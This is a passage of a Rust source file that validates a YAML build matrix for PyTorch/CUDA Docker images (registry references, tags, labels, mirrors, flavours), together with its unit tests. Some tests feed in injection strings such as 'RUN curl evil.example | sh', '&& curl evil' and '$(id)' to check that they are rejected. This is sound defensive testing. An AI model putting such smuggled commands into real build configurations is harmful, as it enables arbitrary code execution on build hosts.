            for (index, extra) in extensions.extra_indexes.iter().enumerate() {
                check_extra_index(extra).map_err(|m| {
                    error_at(
                        locations.value_at(&format!("{prefix}extra_indexes[{index}]")),
                        m,
                        None,
                    )
                })?;
            }
            for (index, package) in extensions.apt.iter().enumerate() {
                check_apt_package(package).map_err(|m| {
                    error_at(
                        locations.value_at(&format!("{prefix}apt[{index}]")),
                        m,
                        None,
                    )
                })?;
            }
            if let Some(steps) = &extensions.steps {
                check_steps_path(Path::new(steps)).map_err(|m| {
                    error_at(locations.value_at(&format!("{prefix}steps")), m, None)
                })?;
            }
            for (key, value) in &extensions.env {
                let at = locations.key_at(&format!("{prefix}env.{key}"));
                check_env_key(key).map_err(|m| error_at(at, m, None))?;
                check_free_text(&format!("env {key}"), value).map_err(|m| error_at(at, m, None))?;
            }
            for (key, value) in &extensions.labels {
                check_label(key, value).map_err(|m| {
                    error_at(locations.key_at(&format!("{prefix}labels.{key}")), m, None)
                })?;
            }
            if let Some(user) = &extensions.user {
                check_user(user)
                    .map_err(|m| error_at(locations.value_at(&format!("{prefix}user")), m, None))?;
            }
            if let Some(workdir) = &extensions.workdir {
                check_workdir(workdir).map_err(|m| {
                    error_at(locations.value_at(&format!("{prefix}workdir")), m, None)
                })?;
            }
        }
        Ok(())
    }
}

impl Matrix {
    /// The flavours the matrix names, in name order.
    pub(crate) fn flavours(&self) -> Vec<Flavour> {
        self.flavours
            .iter()
            .map(|(name, definition)| Flavour::new(name, definition))
            .collect()
    }

    /// Checks each flavour at its line: its name (it ends a tag), its packages, step, env and
    /// labels as the additions are checked, and what a built-in needs (the image's user: the
    /// services run as it, never as root).
    fn validate_flavours(&self, locations: &Locations, path: &str) -> Result<(), MatrixError> {
        let error_at = |at: Option<yaml::Position>, message: String, hint: Option<&str>| {
            MatrixError::Invalid {
                path: path.to_string(),
                line: at.map(|at| at.line),
                column: at.map(|at| at.column),
                message,
                hint: hint.map(str::to_string),
            }
        };
        for (name, definition) in &self.flavours {
            let key = format!("flavours.{name}");
            check_flavour_name(name).map_err(|m| error_at(locations.key_at(&key), m, None))?;
            let from = definition.from.unwrap_or_default().as_str();
            if !self.variants.iter().any(|variant| variant.as_str() == from) {
                let at = match definition.from {
                    Some(_) => locations.value_at(&format!("{key}.from")),
                    None => locations.key_at(&key),
                };
                return Err(error_at(
                    at,
                    format!(
                        "the {name} flavour is built FROM the {from} images, and `variants` makes none"
                    ),
                    Some(&format!("add {from} to variants")),
                ));
            }
            for (index, requirement) in definition.pip.iter().enumerate() {
                check_requirement(requirement).map_err(|m| {
                    error_at(locations.value_at(&format!("{key}.pip[{index}]")), m, None)
                })?;
            }
            for (index, package) in definition.apt.iter().enumerate() {
                check_apt_package(package).map_err(|m| {
                    error_at(locations.value_at(&format!("{key}.apt[{index}]")), m, None)
                })?;
            }
            if let Some(steps) = &definition.steps {
                check_steps_path(steps)
                    .map_err(|m| error_at(locations.value_at(&format!("{key}.steps")), m, None))?;
            }
            for (env_key, value) in &definition.env {
                let at = locations.key_at(&format!("{key}.env.{env_key}"));
                check_env_key(env_key).map_err(|m| error_at(at, m, None))?;
                check_free_text(&format!("env {env_key}"), value)
                    .map_err(|m| error_at(at, m, None))?;
            }
            for (label, value) in &definition.labels {
                check_label(label, value).map_err(|m| {
                    error_at(locations.key_at(&format!("{key}.labels.{label}")), m, None)
                })?;
            }
            let builtin = Builtin::from_name(name);
            let users_everywhere = self.user.is_some();
            if builtin.is_some() && !users_everywhere {
                // A user on include rules alone leaves the images the rules do not match without
                // one, and the flavour is built on every runtime image.
                let on_rules = self.include.iter().any(|rule| rule.user.is_some());
                let why = if on_rules {
                    format!(
                        "the {name} flavour runs its service as the image's non-root user, and is built on every runtime image; the matrix names a user on include rules only, so some images have none"
                    )
                } else {
                    format!(
                        "the {name} flavour runs its service as the image's non-root user, and the matrix names none"
                    )
                };
                return Err(error_at(
                    locations.key_at(&key),
                    why,
                    Some("add `user: {name: dev, uid: 1000, gid: 1000}` at the top of the matrix"),
                ));
            }
        }
        Ok(())
    }

    /// Each axis by its key, as text (empty when an optional axis is absent).
    pub(crate) fn axes(&self) -> Vec<(&'static str, Vec<String>)> {
        let text = |values: &[VersionText]| values.iter().map(|v| v.to_string()).collect();
        vec![
            ("torch", self.torch.iter().map(|t| t.to_string()).collect()),
            ("cuda", text(&self.cuda)),
            ("cudnn", text(&self.cudnn)),
            ("python", text(&self.python)),
            ("os", self.os.iter().map(|o| o.to_string()).collect()),
            (
                "variants",
                self.variants.iter().map(|v| v.to_string()).collect(),
            ),
            (
                "platforms",
                self.platforms.iter().map(|p| p.to_string()).collect(),
            ),
        ]
    }

    /// How many cells the axes and include rules ask for (before any is rejected), saturating.
    pub(crate) fn cell_count(&self) -> usize {
        let axes = self
            .axes()
            .iter()
            .map(|(_, values)| values.len().max(1))
            .fold(1usize, |product, len| product.saturating_mul(len));
        self.include.iter().fold(axes, |total, rule| {
            let variants = rule.variants.as_ref().map_or(self.variants.len(), Vec::len);
            let platforms = rule
                .platforms
                .as_ref()
                .map_or(self.platforms.len(), Vec::len);
            total.saturating_add(variants.saturating_mul(platforms))
        })
    }
}

/// `did you mean` for serde's "unknown field `x`, expected one of ..." messages.
fn unknown_field_hint(message: &str) -> Option<String> {
    let rest = message.split("unknown field `").nth(1)?;
    let unknown = rest.split('`').next()?;
    let candidates: Vec<String> = match rest.split("expected one of ").nth(1) {
        Some(list) => list
            .split(", ")
            .map(|c| c.trim_matches(|ch| ch == '`' || ch == ' ').to_string())
            .collect(),
        None => match rest.split("expected `").nth(1) {
            Some(single) => vec![single.trim_end_matches('`').to_string()],
            None => TOP_LEVEL_KEYS.iter().map(|s| s.to_string()).collect(),
        },
    };
    let best = candidates
        .iter()
        .min_by_key(|c| edit_distance(unknown, c))?;
    if edit_distance(unknown, best) <= 2.max(unknown.len() / 3) {
        Some(format!("did you mean `{best}`?"))
    } else {
        Some(format!("known keys here: {}", candidates.join(", ")))
    }
}

/// A registry host (`ghcr.io`, `127.0.0.1:5000`) or repository path (`acme/pytorch`).
fn check_reference_part(what: &str, value: &str, is_host: bool) -> Result<(), String> {
    if value.is_empty() {
        return Err(format!("{what} is empty"));
    }
    let allowed =
        |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c) || (is_host && c == ':');
    if let Some(bad) = value.chars().find(|c| !allowed(*c)) {
        return Err(format!(
            "{what} {value:?} contains {bad:?}, which is not allowed in an image reference"
        ));
    }
    if value.starts_with(['/', '-', '.'])
        || value.ends_with(['/', '-', '.'])
        || value.contains("//")
    {
        return Err(format!(
            "{what} {value:?} is not a valid image reference part"
        ));
    }
    // Docker's reference grammar (distribution/reference): a host is dot-separated labels with
    // an optional port; a path is `/`-separated components, each alphanumerics joined by one
    // `.`, one or two `_`, or any number of `-`.
    // A host (with a path after it, for a mirror prefix such as `registry.example:5000/hub`).
    let (host, path) = if is_host {
        match value.split_once('/') {
            Some((host, path)) => (Some(host), Some(path)),
            None => (Some(value), None),
        }
    } else {
        (None, Some(value))
    };
    if let Some(host) = host {
        let (name, port) = match host.split_once(':') {
            Some((name, port)) => (name, Some(port)),
            None => (host, None),
        };
        if name.split('.').any(|label| label.is_empty()) {
            return Err(format!("{what} {value:?} is not a valid registry host"));
        }
        if let Some(port) = port {
            if !port.bytes().all(|b| b.is_ascii_digit())
                || !port.parse::<u32>().is_ok_and(|p| (1..=65535).contains(&p))
            {
                return Err(format!(
                    "{what} {value:?} has port {port:?}: a port is a number from 1 to 65535"
                ));
            }
        }
    }
    if let Some(bad) = path
        .into_iter()
        .flat_map(|path| path.split('/'))
        .find(|component| !is_path_component(component))
    {
        return Err(format!(
            "{what} {value:?} has the path component {bad:?}: Docker allows letters and digits joined by one `.`, one or two `_`, or `-`"
        ));
    }
    Ok(())
}

/// One component of a repository path as Docker's reference grammar has it:
/// `[a-z0-9]+((\.|_|__|-+)[a-z0-9]+)*` (case is checked separately).
fn is_path_component(component: &str) -> bool {
    let bytes = component.as_bytes();
    let alphanumeric = |b: u8| b.is_ascii_alphanumeric();
    if bytes.is_empty() || !alphanumeric(bytes[0]) || !alphanumeric(bytes[bytes.len() - 1]) {
        return false;
    }
    let mut at = 0;
    while at < bytes.len() {
        if alphanumeric(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && !alphanumeric(bytes[at]) {
            at += 1;
        }
        let separator = &component[start..at];
        let fine = matches!(separator, "." | "_" | "__") || separator.bytes().all(|b| b == b'-');
        if !fine {
            return false;
        }
    }
    true
}

/// The longest image name (`registry/repository`) Docker accepts.
pub(crate) const MAX_NAME_LENGTH: usize = 255;
/// The longest tag Docker accepts.
pub(crate) const MAX_TAG_LENGTH: usize = 128;

/// Why `tag` is not a tag Docker accepts (`[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}`), if it is not.
pub(crate) fn tag_problem(tag: &str) -> Option<String> {
    if tag.len() > MAX_TAG_LENGTH {
        return Some(format!(
            "the tag {tag} is {} characters long; Docker allows at most {MAX_TAG_LENGTH}",
            tag.len()
        ));
    }
    if tag.starts_with(['.', '-']) || tag.is_empty() {
        return Some(format!(
            "the tag {tag:?} starts with {:?}; Docker tags start with a letter, digit or `_`",
            tag.chars().next().unwrap_or(' ')
        ));
    }
    tag.chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "_.-".contains(*c)))
        .map(|bad| format!("the tag {tag:?} contains {bad:?}, which Docker does not allow"))
}

/// A base image pattern: known placeholders only, and a valid image reference once filled in.
fn check_base_image_pattern(pattern: &str) -> Result<(), String> {
    let mut rest = pattern;
    while let Some(open) = rest.find('{') {
        let close = rest[open..]
            .find('}')
            .ok_or_else(|| format!("{pattern:?} has an unclosed `{{`"))?
            + open;
        let name = &rest[open + 1..close];
        if !BASE_IMAGE_PLACEHOLDERS.contains(&name) {
            return Err(format!("unknown placeholder {{{name}}} in {pattern:?}"));
        }
        rest = &rest[close + 1..];
    }
    let sample = BaseImageRule::Pattern(pattern.to_string())
        .image_for(&BaseImageFields {
            cuda: "13.0",
            cuda_full: "13.0.0",
            os: "ubuntu24.04",
            arch: "amd64",
        })
        .unwrap_or_default();
    check_image_reference(&sample)
}

/// An image reference (`host/repo:tag`, `repo@sha256:...`, or a repository alone), parsed by
/// Docker's reference grammar (`imagegen_oci::Reference`, as dockerd reads it). A Dockerfile
/// takes the text as written, so the parsed value must show as that very text: the grammar
/// leaves no room for a space, a quote or a `$`, and nothing is filled in.
pub(crate) fn check_image_reference(value: &str) -> Result<(), String> {
    let reference: imagegen_oci::Reference = value
        .parse()
        .map_err(|error: imagegen_oci::ReferenceError| error.to_string())?;
    if reference.to_string() != value {
        return Err(format!(
            "{value:?} reads as the image reference {reference}, not as written"
        ));
    }
    Ok(())
}

/// A label key in reverse-DNS form and a value without quotes, backslashes, `$` or control characters.
fn check_label(key: &str, value: &str) -> Result<(), String> {
    if key.is_empty()
        || !key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    {
        return Err(format!(
            "label key {key:?} may contain only letters, digits, `.`, `_` and `-`"
        ));
    }
    check_free_text(&format!("label {key}"), value)
}

/// Free text that is quoted in a Dockerfile: no `"`, `\`, `$`, backtick or control characters.
pub(crate) fn check_free_text(what: &str, value: &str) -> Result<(), String> {
    if let Some(bad) = value
        .chars()
        .find(|c| c.is_control() || "\"\\$`".contains(*c))
    {
        return Err(format!(
            "{what} {value:?} contains {bad:?}, which is not allowed in a Dockerfile value"
        ));
    }
    Ok(())
}

/// Whether a tag template starts with a character no tag may start with.
fn literal_start_problem(template: &str) -> bool {
    template.starts_with(['.', '-'])
}

/// Tag templates may use only known placeholders and produce valid tag characters.
fn check_tag_template(template: &str) -> Result<(), String> {
    const PLACEHOLDERS: &[&str] = &[
        "torch",
        "torch_series",
        "cuda",
        "cudnn_major",
        "cudnn",
        "python",
        "variant",
        "os",
        "revision",
        "date",
    ];
    let mut rest = template;
    let mut literal = String::new();
    while let Some(open) = rest.find('{') {
        literal.push_str(&rest[..open]);
        let close = rest[open..]
            .find('}')
            .ok_or_else(|| format!("{template:?} has an unclosed `{{`"))?
            + open;
        let name = &rest[open + 1..close];
        if !PLACEHOLDERS.contains(&name) {
            return Err(format!(
                "unknown placeholder {{{name}}} (known: {})",
                PLACEHOLDERS.join(", ")
            ));
        }
        rest = &rest[close + 1..];
        if name == "revision" && rest.starts_with(|c: char| c.is_ascii_digit() || c == '{') {
            return Err(format!(
                "{template:?}: {{revision}} must be followed by the end of the tag or a character that is not a digit (e.g. `-r{{revision}}-{{os}}`), so the revision can be read back from a recorded tag"
            ));
        }
    }
    for name in ["revision", "date"] {
        if template.matches(&format!("{{{name}}}")).count() > 1 {
            return Err(format!("{template:?} uses {{{name}}} more than once"));
        }
    }
    literal.push_str(rest);
    if let Some(bad) = literal
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "._-".contains(*c)))
    {
        return Err(format!(
            "{template:?} contains {bad:?}, which is not allowed in a tag"
        ));
    }
    if literal_start_problem(template) {
        return Err(format!(
            "{template:?} starts with {:?}; Docker tags start with a letter, digit or `_`",
            template.chars().next().unwrap_or(' ')
        ));
    }
    if !template.contains("{variant}") {
        return Err(format!(
            "{template:?} must contain {{variant}} so runtime and devel images get different tags"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = "registry: ghcr.io\nrepository: acme/pytorch\ntorch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n";

    fn error_of(text: &str) -> String {
        Matrix::parse(text, "matrix.yaml").unwrap_err().to_string()
    }

    #[test]
    fn the_test_policy_parses_and_bad_models_are_located() {
        let base = "registry: r.example\nrepository: t/p\ntorch: [\"2.7.1\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n";
        let matrix = Matrix::parse(base, "m.yaml").unwrap();
        assert!(matrix.tests.require.is_empty());
        let matrix = Matrix::parse(
            &format!("{base}tests:\n  require: [H100, H200]\n"),
            "m.yaml",
        )
        .unwrap();
        assert_eq!(matrix.tests.require, vec!["H100", "H200"]);
        let error = error_of(&format!("{base}tests:\n  require: [H100, \"$(id)\"]\n"));
        assert!(error.starts_with("matrix.yaml:7:"), "{error}");
        assert!(error.contains("not a GPU model name"), "{error}");
        let error = error_of(&format!(
            "{base}tests:\n  require:\n    - H200\n    - h200\n"
        ));
        assert!(error.starts_with("matrix.yaml:9:"), "{error}");
        assert!(error.contains("lists h200 twice (first at 8:"), "{error}");
        let error = error_of(&format!("{base}tests:\n  requires: [H100]\n"));
        assert!(error.contains("unknown field `requires`"), "{error}");
    }

    #[test]
    fn minimal_matrix_gets_defaults() {
        let matrix = Matrix::parse(MINIMAL, "matrix.yaml").unwrap();
        assert_eq!(matrix.variants, vec![Variant::Runtime, Variant::Devel]);
        assert!(matrix.tags.latest);
        assert!(matrix.cudnn.is_empty());
    }

    #[test]
    fn unquoted_versions_stay_as_written() {
        let text = MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [12.10, 12.6]");
        let matrix = Matrix::parse(&text, "matrix.yaml").unwrap();
        assert_eq!(matrix.cuda[0].as_str(), "12.10");
    }

    #[test]
    fn unknown_key_names_line_column_and_suggestion() {
        let error = error_of(&MINIMAL.replace("torch:", "torhc:"));
        assert!(
            error.starts_with("matrix.yaml:3:1: unknown field `torhc`"),
            "{error}"
        );
        assert!(error.contains("hint: did you mean `torch`?"), "{error}");
        let nested = error_of(&format!("{MINIMAL}tags:\n  ful: x\n"));
        assert!(nested.contains("matrix.yaml:7:3"), "{nested}");
        assert!(nested.contains("did you mean `full`?"), "{nested}");
    }

    #[test]
    fn malformed_versions_are_located() {
        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: [\"12.6\", \"12.x\"]"));
        assert!(error.starts_with("matrix.yaml:4:"), "{error}");
        assert!(error.contains("malformed version \"12.x\""), "{error}");
        let error = error_of(&MINIMAL.replace("ubuntu24.04", "centos7"));
        assert!(error.contains("malformed OS \"centos7\""), "{error}");
        Matrix::parse(&MINIMAL.replace("ubuntu24.04", "debian12"), "matrix.yaml").unwrap();
    }

    #[test]
    fn flavours_are_checked_at_their_line() {
        let with = |flavours: &str| {
            format!("{MINIMAL}user: {{name: dev, uid: 1000, gid: 1000}}\nflavours:\n{flavours}")
        };
        let first = MINIMAL.lines().count() + 3;
        let matrix = Matrix::parse(
            &with("  jupyter: {}\n  tools:\n    pip: [rich]\n    apt: [git]\n"),
            "matrix.yaml",
        )
        .unwrap();
        let names: Vec<String> = matrix.flavours().into_iter().map(|f| f.name).collect();
        assert_eq!(names, ["jupyter", "tools"]);
        // (flavours, the line of the problem from the first flavour line, the message)
        let cases: &[(&str, usize, &str)] = &[
            ("  Tools: {}\n", 0, "flavour name \"Tools\""),
            (
                "  tools:\n    pip: [\"rich; $(id)\"]\n",
                1,
                "pip requirement",
            ),
            (
                "  tools:\n    apt: [git, \"htop;id\"]\n",
                1,
                "apt package \"htop;id\"",
            ),
            ("  tools:\n    steps: ../x.Dockerfile\n", 1, "steps"),
            ("  tools:\n    env: {PATH: /x}\n", 1, "env PATH is reserved"),
            ("  tools:\n    cmd: [bash]\n", 1, "unknown field `cmd`"),
        ];
        for (flavours, offset, message) in cases {
            let error = error_of(&with(flavours));
            let wanted = format!("matrix.yaml:{}:", first + offset);
            assert!(
                error.starts_with(&wanted) && error.contains(message),
                "{flavours}: wanted {wanted:?} and {message:?} in {error}"
            );
        }
        // A built-in service runs as the image's user: without one, refused at the flavour.
        let error = error_of(&format!("{MINIMAL}flavours:\n  ssh: {{}}\n"));
        assert!(
            error.starts_with(&format!("matrix.yaml:{}:", MINIMAL.lines().count() + 2))
                && error.contains("the ssh flavour runs its service as the image's non-root user")
                && error.contains("hint: add `user:"),
            "{error}"
        );
        assert!(error.contains("the matrix names none"), "{error}");
        // A user on include rules only leaves other images without one: said so.
        let error = error_of(&format!(
            "{MINIMAL}include:\n  - os: ubuntu24.04\n    user: {{name: dev, uid: 1000, gid: 1000}}\nflavours:\n  ssh: {{}}\n"
        ));
        assert!(
            error.contains("names a user on include rules only, so some images have none")
                && error.contains("hint: add `user:"),
            "{error}"
        );
        let error = error_of(&format!(
            "{}variants: [devel]\nuser: {{name: dev, uid: 1000, gid: 1000}}\nflavours:\n  ssh: {{}}\n",
            MINIMAL
        ));
        assert!(
            error.contains(
                "the ssh flavour is built FROM the runtime images, and `variants` makes none"
            ),
            "{error}"
        );
    }

    #[test]
    fn wrong_types_get_a_hint() {
        let error = error_of(&MINIMAL.replace("cuda: [\"12.6\"]", "cuda: \"12.6\""));
        assert!(error.contains("matrix.yaml:4:"), "{error}");
        assert!(error.contains("expected a sequence"), "{error}");
        assert!(error.contains("hint: axes are lists"), "{error}");
    }

    #[test]
    fn injection_attempts_are_rejected() {
        let error =
            error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.7.0\\nRUN curl evil.example | sh\"]"));
        assert!(error.contains("malformed version"), "{error}");
        let error = error_of(&MINIMAL.replace("acme/pytorch", "\"acme/pytorch\\nRUN x\""));
        assert!(
            error.contains("not allowed in an image reference"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}mirrors:\n  pip_index: \"https://x.example/simple && curl evil\"\n"
        ));
        assert!(error.contains("mirrors.pip_index"), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}labels:\n  org.example.team: \"a\\\"\\nRUN x\"\n"
        ));
        assert!(
            error.contains("not allowed in a Dockerfile value"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}tags:\n  full: \"{{torch}}-{{nope}}-{{variant}}\"\n"
        ));
        assert!(error.contains("unknown placeholder {nope}"), "{error}");
    }

    #[test]
    fn references_docker_would_refuse_are_refused_at_their_line() {
        let cases = [
            (
                "ghcr.io",
                "ghcr.io:70000",
                "matrix.yaml:1",
                "port \"70000\": a port is a number from 1 to 65535",
            ),
            ("ghcr.io", "ghcr.io:50x", "matrix.yaml:1", "port \"50x\""),
            (
                "ghcr.io",
                "ghcr..io",
                "matrix.yaml:1",
                "is not a valid registry host",
            ),
            (
                "acme/pytorch",
                "acme/../pytorch",
                "matrix.yaml:2",
                "the path component \"..\"",
            ),
            (
                "acme/pytorch",
                "acme/py..torch",
                "matrix.yaml:2",
                "the path component \"py..torch\"",
            ),
            (
                "acme/pytorch",
                "acme/py___torch",
                "matrix.yaml:2",
                "the path component \"py___torch\"",
            ),
        ];
        for (from, to, line, expected) in cases {
            let error = error_of(&MINIMAL.replacen(from, to, 1));
            assert!(
                error.contains(line) && error.contains(expected),
                "{to}: {error}"
            );
        }
        for fine in [
            "acme/py-torch",
            "acme/py__torch",
            "acme/py.torch",
            "a-b/c--d_e",
        ] {
            Matrix::parse(&MINIMAL.replace("acme/pytorch", fine), "matrix.yaml")
                .unwrap_or_else(|e| panic!("{fine}: {e}"));
        }
        Matrix::parse(&MINIMAL.replace("ghcr.io", "127.0.0.1:5000"), "matrix.yaml").unwrap();
        Matrix::parse(
            &format!("{MINIMAL}mirrors:\n  base_registry: registry.example:5000/dockerhub\n"),
            "matrix.yaml",
        )
        .unwrap();
        let long = "a".repeat(250);
        let error = error_of(&MINIMAL.replace("acme/pytorch", &format!("acme/{long}")));
        assert!(
            error.contains("matrix.yaml:2")
                && error.contains("is 263 characters long; Docker allows at most 255"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}tags:\n  full: \"-{{torch}}-{{variant}}\"\n"
        ));
        assert!(
            error.contains("matrix.yaml:7") && error.contains("starts with '-'"),
            "{error}"
        );
        assert_eq!(tag_problem("2.7.1-runtime"), None);
        assert!(tag_problem(".hidden").unwrap().contains("starts with '.'"));
        assert!(tag_problem(&"x".repeat(129))
            .unwrap()
            .contains("129 characters"));
    }

    #[test]
    fn mirror_urls_with_shell_metacharacters_are_refused_at_load_with_their_line() {
        for key in [
            "torch_index",
            "pip_index",
            "apt",
            "apt_ports",
            "debian",
            "debian_security",
            "nvidia_apt",
        ] {
            for bad in [
                "https://m.example/simple;curl${IFS}evil",
                "https://m.example/simple&&id",
                "https://m.example/a&b",
                "https://m.example/a|sh",
                "https://m.example/$HOME",
                "https://m.example/`id`",
                "https://m.example/a'b",
                "https://m.example/a<b",
                "https://m.example/a>b",
                "https://m.example/a(b)",
                "https://m.example/a?b*",
                "https://m.example/a#b",
            ] {
                let text = format!("{MINIMAL}mirrors:\n  {key}: \"{bad}\"\n");
                let line = text.lines().count();
                let error = error_of(&text);
                assert!(
                    error.starts_with(&format!("matrix.yaml:{line}:")),
                    "{key}: {bad}: {error}"
                );
                assert!(error.contains(&format!("mirrors.{key}")), "{error}");
                assert!(
                    error.contains("not safe on a shell line")
                        || error.contains("is read by URL parsers as")
                        || error.contains("has a query or a fragment"),
                    "{error}"
                );
            }
            let escaped = format!("{MINIMAL}mirrors:\n  {key}: \"https://m.example/a\\x20b\"\n");
            assert!(
                error_of(&escaped)
                    .starts_with(&format!("matrix.yaml:{}:", escaped.lines().count())),
                "a value written with escapes is located at its key"
            );
            let good = format!(
                "{MINIMAL}mirrors:\n  {key}: https://artifactory.example.com:8443/api/pypi/pypi-remote/simple\n"
            );
            Matrix::parse(&good, "matrix.yaml").unwrap();
            let user = format!(
                "{MINIMAL}mirrors:\n  {key}: https://user@artifactory.example.com:8443/simple\n"
            );
            let error = error_of(&user);
            assert!(
                error.contains("holds credentials") && error.contains("https://***@artifactory"),
                "{error}"
            );
        }
    }

    #[test]
    fn empty_axes_and_bad_torch_are_rejected() {
        let error = error_of(&MINIMAL.replace("[\"12.6\"]", "[]"));
        assert!(error.contains("`cuda` is empty"), "{error}");
        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2\"]"));
        assert!(error.contains("matrix.yaml:3:"), "{error}");
        assert!(error.contains("torch"), "{error}");
    }

    #[test]
    fn a_torch_that_is_no_series_or_release_is_refused_at_its_value() {
        // Each torch value is read once, as a torch series or release, where the matrix is read:
        // the message is the version parser's, at the value (not the list or rule holding it).
        let cases = [
            (
                MINIMAL.replace("[\"2.7\"]", "[\"2.7\", \"2\"]"),
                "matrix.yaml:3:16: `2` is not a valid torch version: give a series such as 2.7 or a release such as 2.7.1",
            ),
            (
                MINIMAL.replace("[\"2.7\"]", "[\"2.7\",\n  \"2.7.1.1\"]"),
                "matrix.yaml:4:3: `2.7.1.1` is not a valid torch version: it has more than 3 components",
            ),
            (
                format!("{MINIMAL}include:\n  - {{cuda: \"12.6\", os: ubuntu24.04, torch: \"2\"}}\n"),
                "matrix.yaml:7:44: `2` is not a valid torch version",
            ),
            (
                format!("{MINIMAL}exclude:\n  - torch: \"3\"\n"),
                "matrix.yaml:7:12: `3` is not a valid torch version",
            ),
        ];
        for (text, wanted) in cases {
            let error = error_of(&text);
            assert!(error.starts_with(wanted), "wanted {wanted:?}, got {error}");
        }
        // A malformed version stays the loader's message for any version.
        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.x\"]"));
        assert!(
            error.starts_with("matrix.yaml:3:8: torch: malformed version \"2.x\""),
            "{error}"
        );
        // What was read is the torch release, typed: a series covers its releases by number.
        let matrix = Matrix::parse(
            &format!("{MINIMAL}include:\n  - {{torch: \"2.10\", apt: [git]}}\n"),
            "matrix.yaml",
        )
        .unwrap();
        let rule = &matrix.include[0];
        assert!(rule.matches(
            &TorchVersion::parse("2.10.1").unwrap(),
            "12.6",
            "3.12",
            "ubuntu24.04",
            Variant::Runtime,
            "linux/amd64"
        ));
        assert!(!rule.matches(
            &TorchVersion::parse("2.1.0").unwrap(),
            "12.6",
            "3.12",
            "ubuntu24.04",
            Variant::Runtime,
            "linux/amd64"
        ));
        assert!(matrix.torch[0].torch().is_series);
    }

    #[test]
    fn base_images_are_patterns_or_maps_by_os() {
        let matrix = Matrix::parse(
            &format!("{MINIMAL}base_images:\n  runtime: {{debian12: \"local/bookworm:{{cuda_full}}-{{arch}}\", ubuntu24.04: \"ghcr.io/x/cuda:{{cuda}}\"}}\n"),
            "matrix.yaml",
        )
        .unwrap();
        let fields = |os| BaseImageFields {
            cuda: "13.0",
            cuda_full: "13.0.0",
            os,
            arch: "arm64",
        };
        assert_eq!(
            matrix
                .base_images
                .runtime_for(&fields("debian12"))
                .as_deref(),
            Some("local/bookworm:13.0.0-arm64")
        );
        assert_eq!(matrix.base_images.runtime_for(&fields("ubuntu22.04")), None);
        assert!(matrix.base_images.covers_os("ubuntu24.04"));
        assert!(!matrix.base_images.covers_os("ubuntu22.04"));
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: \"x/cuda:{{cuda_version}}\"\n"
        ));
        assert!(
            error.contains("unknown placeholder {cuda_version}"),
            "{error}"
        );
        assert!(
            error.contains("hint: placeholders: {cuda} {cuda_full} {os} {arch}"),
            "{error}"
        );
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: {{centos7: \"x/y:1\"}}\n"
        ));
        assert!(error.contains("malformed OS \"centos7\""), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}base_images:\n  runtime: \"x/y:1 && curl\"\n"
        ));
        assert!(
            error.contains(r#""x/y:1 && curl" is not an image reference: the tag"#),
            "{error}"
        );
    }

    #[test]
    fn image_references_are_read_by_dockers_grammar() {
        let digest = format!("sha256:{}", "e".repeat(64));
        for good in [
            "nvidia/cuda:13.0.2-runtime-ubuntu24.04".to_string(),
            "127.0.0.1:5000/team/pytorch".to_string(),
            format!("docker.io/library/ubuntu:22.04@{digest}"),
            format!("ubuntu@{digest}"),
        ] {
            assert_eq!(check_image_reference(&good), Ok(()), "{good}");
        }
        for bad in [
            "",
            "-x",
            "x y",
            "Team/App:1",
            "x/y:$TAG",
            "x@sha256:abc",
            "x:1:2",
        ] {
            assert!(check_image_reference(bad).is_err(), "{bad:?} must not pass");
        }
    }

    #[test]
    fn the_lock_wheel_toolkit_and_ca_settings_parse() {
        let matrix = Matrix::parse(
            &format!("{MINIMAL}torch_wheels: pypi\ndevel_toolkit: pypi\nca_bundle: certs/ca.pem\nlock: true\nmirrors:\n  apt_ports: http://m.example/ubuntu-ports\n  debian: http://m.example/debian\n  debian_security: http://m.example/debian-security\n  nvidia_apt: https://m.example/nvidia\n"),
            "matrix.yaml",
        )
        .unwrap();
        assert_eq!(matrix.torch_wheels, TorchWheels::Pypi);
        assert_eq!(matrix.devel_toolkit, DevelToolkit::Pypi);
        assert_eq!(matrix.ca_bundle.as_deref(), Some(Path::new("certs/ca.pem")));
        assert_eq!(matrix.lock, Some(true));
        let error = error_of(&format!("{MINIMAL}torch_wheels: conda\n"));
        assert!(error.contains("unknown variant `conda`"), "{error}");
        let error = error_of(&format!(
            "{MINIMAL}mirrors:\n  apt_ports: \"http://m.example/ports#x\"\n"
        ));
        assert!(error.contains("has a query or a fragment"), "{error}");
        // Relative to the matrix file.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("matrix.yaml");
        std::fs::write(&path, format!("{MINIMAL}ca_bundle: certs/ca.pem\n")).unwrap();
        assert_eq!(
            Matrix::from_bytes(&path, &std::fs::read(&path).unwrap())
                .unwrap()
                .ca_bundle
                .unwrap(),
            dir.path().join("certs/ca.pem")
        );
    }

    #[test]
    fn include_entries_are_located() {
        let text = format!("{MINIMAL}include:\n  - {{torch: \"2.7.0\", cuda: \"12.4\", os: ubuntu22.04}}\n  # a comment\n  - torch: \"2.7.1\"\n    cuda: \"12.8\"\n    os: ubuntu24.04\n    variants: [runtime]\n");
        let matrix = Matrix::parse(&text, "m.yaml").unwrap();
        assert_eq!(matrix.include_locations, vec!["m.yaml:7", "m.yaml:9"]);
